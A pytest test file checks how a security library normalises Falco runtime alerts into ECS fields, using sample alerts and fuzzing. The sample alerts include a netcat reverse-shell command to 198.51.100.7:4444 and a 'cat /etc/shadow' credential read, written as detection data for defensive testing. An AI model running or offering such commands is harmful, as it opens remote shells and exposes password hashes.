"""Falco JSON alerts: every record an alert, with its rule, severity and ECS process fields."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from maat.errors import InvalidInput
from maat.telemetry.falco import JSON_SOURCES, SEVERITY, FalcoAlert
from telemetry_kit import pick, sibling

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Alerts as Falco 0.37 writes them with json_output: true (default ruleset rules).
SHELL_IN_CONTAINER: dict[str, Any] = {
    "hostname": "k8s-node-1",
    "output": "16:34:01.125482735: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=containerd-shim command=bash terminal=34816 exe_flags=EXE_WRITABLE container_id=5a4a1b3a0d2e container_image=docker.io/library/nginx container_image_tag=1.25 container_name=web k8s_ns=default k8s_pod_name=web-7d9f)",
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "source": "syscall",
    "tags": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    "time": "2024-03-11T16:34:01.125482735Z",
    "output_fields": {
        "container.id": "5a4a1b3a0d2e",
        "container.image.repository": "docker.io/library/nginx",
        "container.image.tag": "1.25",
        "container.name": "web",
        "evt.arg.flags": "EXE_WRITABLE",
        "evt.time": 1710174841125482735,
        "evt.type": "execve",
        "k8s.ns.name": "default",
        "k8s.pod.name": "web-7d9f",
        "proc.cmdline": "bash",
        "proc.exepath": "/usr/bin/bash",
        "proc.name": "bash",
        "proc.pid": 31245,
        "proc.pname": "containerd-shim",
        "proc.tty": 34816,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
    },
}
READ_SHADOW: dict[str, Any] = {
    "hostname": "db01",
    "output": "16:40:12.000000001: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=sshd ggparent=systemd evt_type=openat user=alice user_uid=1000 user_loginuid=1000 process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34817 container_id=host container_name=host)",
    "priority": "Warning",
    "rule": "Read sensitive file untrusted",
    "source": "syscall",
    "tags": ["T1555", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
    "time": "2024-03-11T16:40:12.000000001Z",
    "output_fields": {
        "container.id": "host",
        "container.name": "host",
        "evt.type": "openat",
        "fd.name": "/etc/shadow",
        "fd.type": "file",
        "proc.cmdline": "cat /etc/shadow",
        "proc.exepath": "/usr/bin/cat",
        "proc.name": "cat",
        "proc.pid": 4242,
        "proc.ppid": 4100,
        "proc.pname": "bash",
        "user.loginuid": 1000,
        "user.name": "alice",
        "user.uid": 1000,
    },
}
OUTBOUND: dict[str, Any] = {
    "hostname": "k8s-node-2",
    "output": "09:01:44.201300000: Notice Disallowed outbound connection destination (command=nc -e /bin/sh 198.51.100.7 4444 connection=10.0.0.5:41234->198.51.100.7:4444 user=www-data)",
    "priority": "Notice",
    "rule": "Unexpected outbound connection destination",
    "source": "syscall",
    "tags": ["TA0011", "host", "network"],
    "time": "2024-03-12T09:01:44.2013Z",
    "output_fields": {
        "evt.type": "connect",
        "fd.name": "10.0.0.5:41234->198.51.100.7:4444",
        "fd.cip": "10.0.0.5",
        "fd.cport": 41234,
        "fd.sip": "198.51.100.7",
        "fd.sport": 4444,
        "fd.l4proto": "tcp",
        "proc.cmdline": "nc -e /bin/sh 198.51.100.7 4444",
        "proc.name": "nc",
        "proc.pid": 777,
        "user.name": "www-data",
        "container.id": "host",
        "k8s.ns.name": None,
    },
}
K8S_AUDIT: dict[str, Any] = {
    "hostname": "falco-k8saudit-0",
    "output": "Pod started with privileged container (user=system:anonymous pod=evil ns=default images=alpine)",
    "priority": "Warning",
    "rule": "Create Privileged Pod",
    "source": "k8s_audit",
    "tags": ["k8s"],
    "time": "2024-03-12T10:00:00.000000000Z",
    "uuid": "0f0c2b4a-1d8e-4ac5-9a43-3b4c8c9f7e11",
    "output_fields": {
        "ka.user.name": "system:anonymous",
        "ka.resp.name": "evil",
        "ka.target.namespace": "default",
        "ka.req.pod.containers.image": ["alpine"],
    },
}
SAMPLES = [SHELL_IN_CONTAINER, READ_SHADOW, OUTBOUND, K8S_AUDIT]
SOURCE = FalcoAlert()


def one(record: dict[str, Any]) -> dict[str, Any]:
    event = SOURCE.normalise(record)
    assert isinstance(event, dict)
    for key, value in event.items():
        assert isinstance(value, str | int | float | bool | list), key
    return event


def test_shell_in_container_is_an_alert_with_process_and_container() -> None:
    event = one(SHELL_IN_CONTAINER)
    expected = {
        "@timestamp": "2024-03-11T16:34:01.125482Z",
        "event.kind": "alert",
        "rule.name": "Terminal shell in container",
        "event.severity": 5,
        "falco.priority": "Notice",
        "message": SHELL_IN_CONTAINER["output"],
        "tags": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
        "threat.technique.id": ["T1059"],
        "host.name": "k8s-node-1",
        "process.name": "bash",
        "process.pid": 31245,
        "process.executable": "/usr/bin/bash",
        "process.command_line": "bash",
        "process.parent.name": "containerd-shim",
        "user.name": "root",
        "user.id": "0",
        "container.id": "5a4a1b3a0d2e",
        "container.image.name": "docker.io/library/nginx",
        "orchestrator.namespace": "default",
        "event.action": "execve",
        "event.category": ["process"],
        "event.type": ["start"],
        "falco.output_fields.evt.time": 1710174841125482735,
        "falco.output_fields.proc.tty": 34816,
    }
    assert pick(event, expected) == expected
    assert "file.path" not in event
    assert "user.audit.id" not in event  # loginuid -1: never logged in


def test_sensitive_file_read_on_the_host_maps_the_file() -> None:
    event = one(READ_SHADOW)
    expected = {
        "file.path": "/etc/shadow",
        "file.name": "shadow",
        "event.category": ["file"],
        "event.type": ["access"],
        "event.severity": 4,
        "process.parent.pid": 4100,
        "user.audit.id": "1000",
    }
    assert pick(event, expected) == expected
    assert "container.id" not in event  # "host" is no container


def test_connection_maps_client_as_source_and_server_as_destination() -> None:
    event = one(OUTBOUND)
    expected = {
        "source.ip": "10.0.0.5",
        "source.port": 41234,
        "destination.ip": "198.51.100.7",
        "destination.port": 4444,
        "network.transport": "tcp",
        "event.category": ["network"],
        "@timestamp": "2024-03-12T09:01:44.2013Z",  # kept as sent: already ISO UTC
    }
    assert pick(event, expected) == expected
    assert "file.path" not in event  # a socket's fd.name is no file
    assert "falco.output_fields.k8s.ns.name" not in event  # null output fields are dropped


def test_plugin_alert_keeps_its_fields_as_sent() -> None:
    event = one(K8S_AUDIT)
    assert event["falco.source"] == "k8s_audit"
    assert event["falco.uuid"] == "0f0c2b4a-1d8e-4ac5-9a43-3b4c8c9f7e11"
    assert event["falco.output_fields.ka.user.name"] == "system:anonymous"
    assert event["falco.output_fields.ka.req.pod.containers.image"] == ["alpine"]
    assert "event.category" not in event


@pytest.mark.parametrize(
    ("priority", "severity"),
    [
        ("Emergency", 0),
        ("ALERT", 1),
        ("Critical", 2),
        ("Error", 3),
        ("Informational", 6),
        ("Info", 6),
        ("debug", 7),
    ],
)
def test_priorities_map_to_the_syslog_severity_scale(priority: str, severity: int) -> None:
    assert one({**READ_SHADOW, "priority": priority})["event.severity"] == severity
    assert SEVERITY[priority.lower()] == severity


def _changed(path: list[str], value: Any) -> dict[str, Any]:
    record = copy.deepcopy(READ_SHADOW)
    target = record
    for step in path[:-1]:
        target = target[step]
    if value is KeyError:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return record


@pytest.mark.parametrize(
    ("record", "field"),
    [
        (_changed(["priority"], "Urgent"), "priority"),
        (_changed(["priority"], 4), "priority"),
        (_changed(["rule"], ""), "rule"),
        (_changed(["output"], None), "output"),
        (_changed(["time"], KeyError), "time"),
        (_changed(["time"], "yesterday"), "time"),
        (_changed(["time"], 1710174841), "time"),
        (_changed(["tags"], "shell"), "tags"),
        (_changed(["output_fields"], ["proc.name"]), "output_fields"),
        (_changed(["output_fields", "proc.pid"], "four"), "output_fields.proc.pid"),
    ],
)
def test_bad_alerts_name_the_field(record: dict[str, Any], field: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        SOURCE.normalise(record)
    assert caught.value.location.field == field


@pytest.mark.parametrize(
    "other", ["test_auditd", "test_osquery", "test_zeek", "test_access_log", "test_azure_monitor"]
)
def test_claims_no_other_source_sample(other: str) -> None:
    for record in sibling(other).SAMPLES:
        assert not JSON_SOURCES[0].accepts(record), record


def test_claims_no_windows_record() -> None:
    sysmon = {
        "EventID": 1,
        "Hostname": "WS5",
        "Image": "C:\\x.exe",
        "RuleName": "-",
        "Priority": "x",
    }
    evtx = {"Event": {"System": {"EventID": 1, "Computer": "WS5"}, "EventData": {"RuleName": "-"}}}
    assert not SOURCE.accepts(sysmon)
    assert not SOURCE.accepts(evtx)


# Text that int() and float() take or choke on in surprising ways.
NASTY = ["\u00b2", "\u0663", "9" * 5000, "--5", "-1", "1e400", "nan", "-inf", "", "-", "\x00"]

values = (
    st.sampled_from(NASTY)
    | st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=12)
    | st.lists(st.text(max_size=3) | st.integers(), max_size=2)
    | st.dictionaries(st.text(max_size=3), st.integers(), max_size=2)
)
output_fields = st.dictionaries(
    st.sampled_from(
        [
            "proc.name",
            "proc.pid",
            "proc.ppid",
            "proc.cmdline",
            "fd.name",
            "fd.type",
            "fd.sport",
            "fd.cip",
            "container.id",
            "evt.type",
            "user.uid",
            "k8s.ns.name",
        ]
    ),
    values,
)
alerts = st.fixed_dictionaries(
    {
        "rule": st.text(max_size=8) | values,
        "priority": st.sampled_from(["Warning", "Notice", "Critical", "info"]) | values,
        "output": st.text(max_size=8) | values,
        "time": st.sampled_from(["2024-03-11T16:34:01.125482735Z", "2024-03-11T16:34:01Z"])
        | values,
    },
    optional={
        "output_fields": output_fields | values,
        "tags": st.lists(st.text(max_size=6), max_size=3) | values,
        "hostname": values,
        "source": values,
        "uuid": values,
    },
)


@FUZZ
@given(alerts)
def test_normalise_raises_only_invalid_input(record: dict[str, Any]) -> None:
    try:
        event = SOURCE.normalise(record)
    except InvalidInput:
        return
    for key, value in event.items():
        assert isinstance(value, str | int | float | bool | list), key
        if isinstance(value, list):
            assert all(isinstance(v, str) for v in value), key
